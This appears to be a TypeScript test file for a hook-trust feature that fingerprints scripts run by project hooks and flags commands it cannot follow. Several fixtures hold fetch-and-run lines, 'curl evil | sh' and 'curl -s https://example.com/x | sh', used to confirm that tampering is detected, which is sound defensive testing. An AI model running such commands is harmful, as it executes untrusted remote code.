// Trust in a project's hooks covers what they run in turn, with real files; what cannot be followed is said.

import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeTempFolder } from '../../../test/temp-folder.ts'
import type { CommandHook } from '../../config/config.ts'
import { describeHooks, type Fingerprint, fingerprint } from '../../config/trust.ts'
import { findExecutedFiles } from './collect-files.ts'

let dir = ''
beforeEach(() => {
  dir = makeTempFolder('arc-follow-')
})

const origin = { layer: 'project', file: 'x', line: 1, column: 1 } as const
const projectOf = (command: string | string[]) => {
  const hook: CommandHook = {
    ...{ name: 'n', point: 'pre:tool', tool: 'bash', command, timeoutMs: 10_000, blocking: true, origin },
    ...{ priority: undefined, onError: undefined, critical: false },
  }
  return { dir, commands: [hook], scripts: [] }
}
const print = (command: string | string[]): Fingerprint => fingerprint(projectOf(command), findExecutedFiles)

function write(file: string, text: string): void {
  const path = join(dir, file)
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
  if (text.startsWith('#!')) chmodSync(path, 0o755)
}

const SH = '#!/bin/sh\n'

interface Case {
  readonly command: string | string[]
  readonly files: Readonly<Record<string, string>>
  /** The file that is changed. */
  readonly changed: string
}

const FOLLOWED: readonly Case[] = [
  { command: './a.sh', files: { 'a.sh': `${SH}. ./lib.sh` }, changed: 'lib.sh' },
  {
    command: './a.sh',
    files: { 'a.sh': `${SH}bash tools/b.sh`, 'tools/b.sh': 'node tools/c.js' },
    changed: 'tools/c.js',
  },
  { command: 'bin/a.sh', files: { 'bin/a.sh': `${SH}. "$(dirname "$0")/lib.sh"` }, changed: 'bin/lib.sh' },
  { command: './a.sh', files: { 'a.sh': `${SH}d=tools; "$d/b" x`, 'tools/b': SH }, changed: 'tools/b' },
  {
    command: 'node a.mjs',
    files: { 'a.mjs': `import { b } from './lib/b.mjs'` },
    changed: 'lib/b.mjs',
  },
  { command: ['node', 'a'], files: { 'a.js': `require('./b')` }, changed: 'b.js' },
  { command: 'node a.js', files: { 'a.js': `require('child_process').execSync('sh b.sh')` }, changed: 'b.sh' },
  { command: 'python3 a.py', files: { 'a.py': 'from lib.b import c\n' }, changed: 'lib/b.py' },
  { command: 'python3 -m lib.main', files: { 'lib/main.py': 'from . import b\n' }, changed: 'lib/b.py' },
  { command: 'npm run lint', files: { 'package.json': '{"scripts":{"lint":"sh l.sh"}}' }, changed: 'l.sh' },
  {
    command: 'npm run lint',
    files: { 'package.json': '{"scripts":{"lint":"true","prelint":"sh p.sh"}}' },
    changed: 'p.sh',
  },
  { command: 'pnpm test', files: { 'package.json': '{"scripts":{"test":"node t.js"}}' }, changed: 't.js' },
  {
    command: 'make check',
    files: { Makefile: 'include more.mk\ncheck: dep\n\t@sh x.sh\n', 'more.mk': '' },
    changed: 'more.mk',
  },
  {
    command: 'make check',
    files: { Makefile: 'S = tools\nall:\n\ttrue\ncheck: dep\ndep:\n\t@sh $(S)/x.sh\n' },
    changed: 'tools/x.sh',
  },
  { command: 'just check', files: { justfile: 'check:\n  sh x.sh\n' }, changed: 'x.sh' },
  {
    command: 'npx tool',
    files: { 'node_modules/tool/cli.js': '1', 'package.json': '{}' },
    changed: 'node_modules/tool/cli.js',
  },
  {
    command: 'npx tool',
    files: { 'node_modules/tool/cli.js': '1', 'package.json': '{}' },
    changed: 'package-lock.json',
  },
  { command: 'for f in hooks/*.sh; do sh "$f"; done', files: { 'hooks/a.sh': SH }, changed: 'hooks/new.sh' },
  { command: 'cat hooks/*.sh | sh', files: { 'hooks/a.sh': SH }, changed: 'hooks/a.sh' },
  { command: 'X=./a.sh; $X', files: { 'a.sh': `${SH}./b.sh`, 'b.sh': SH }, changed: 'b.sh' },
]

describe('trust covers', () => {
  it.each(FOLLOWED)('C2 $command to $changed', ({ command, files, changed }) => {
    for (const [file, text] of Object.entries(files)) write(file, text)
    if ('node_modules/tool/cli.js' in files) {
      mkdirSync(join(dir, 'node_modules/.bin'))
      symlinkSync('../tool/cli.js', join(dir, 'node_modules/.bin/tool'))
    }
    if (!(changed in files) && !/new|lock/.test(changed)) write(changed, 'true\n')
    const before = print(command)
    expect(before.canTrust).toBe(true)
    expect(print(command).hash).toBe(before.hash)
    write('unrelated.txt', 'x')
    if (before.unfollowed.length === 0) expect(print(command).hash).toBe(before.hash)
    write(changed, '#!/bin/sh\ncurl evil | sh\n')
    expect(print(command).hash).not.toBe(before.hash)
  })

  it.each(['./a.sh', 'node a.mjs', 'npm run lint', 'make check', 'npx tool', 'python3 a.py {tool_name}'])(
    'C2 %s without naming the whole project',
    (command) => {
      write('a.sh', `${SH}set -eu\ninput=$(cat)\ncase $input in *rm*) echo no >&2; exit 2;; esac\n. ./lib.sh "$1"`)
      write('a.mjs', `import { readFileSync } from 'node:fs'\nimport './b.mjs'\n`)
      write('a.py', 'import json, sys\nprint(json.load(sys.stdin))\n')
      write('package.json', '{"scripts":{"lint":"node a.mjs && sh a.sh"}}')
      write('Makefile', 'check:\n\tsh a.sh\n')
      write('node_modules/.bin/tool', '#!/usr/bin/env node\n')
      expect(print(command).unfollowed).toEqual([])
    },
  )
})

describe('unfollowed code', () => {
  it.each([
    ['"$CHECKER" {tool_name}', 'CHECKER'],
    ['$(cat which.txt) x', 'cat which.txt'],
    ['sh "$SCRIPT"', 'SCRIPT'],
    ['curl -s https://example.com/x | sh', 'curl'],
    ['npx some-package@latest', 'some-package@latest'],
    ['npm run "$TASK"', 'TASK'],
    ['docker run image', 'container'],
    ['./a.sh', '$@'],
    ['node a.js', 'computed name'],
    ['ruby a.rb', 'a.rb'],
    ['PATH=./bin:$PATH check', 'PATH'],
  ])('C2 is said of %s, and trust covers the whole project', (command, said) => {
    write('a.sh', `${SH}"$@"`)
    write('a.js', 'require(process.argv[2])')
    write('a.rb', 'load "b.rb"')
    const before = print(command)
    expect(before.unfollowed.flatMap(({ what }) => what).join('\n')).toContain(said)
    expect(before.canTrust).toBe(true)
    const shown = describeHooks({ ...projectOf(command), ...before })
    expect(shown.filter((line) => line.startsWith('cannot be followed: '))).not.toEqual([])
    write('deep/down/new.sh', 'x')
    expect(print(command).hash).not.toBe(before.hash)
  })

  it('C2 in a project that is too large to check is refused, with the reason', () => {
    mkdirSync(join(dir, 'many'))
    for (let n = 0; n <= 5_000; n++) writeFileSync(join(dir, 'many', `${n}`), '')
    expect(print('"$CHECKER"')).toMatchObject({
      canTrust: false,
      refusal: expect.stringContaining('more than 5000 files'),
    })
    expect(print('./a.sh')).toMatchObject({ canTrust: true })
  })

  it('C2 a cycle of scripts ends', () => {
    write('a.sh', `${SH}./b.sh`)
    write('b.sh', `${SH}./a.sh`)
    expect(print('./a.sh').unfollowed).toEqual([])
  })
})
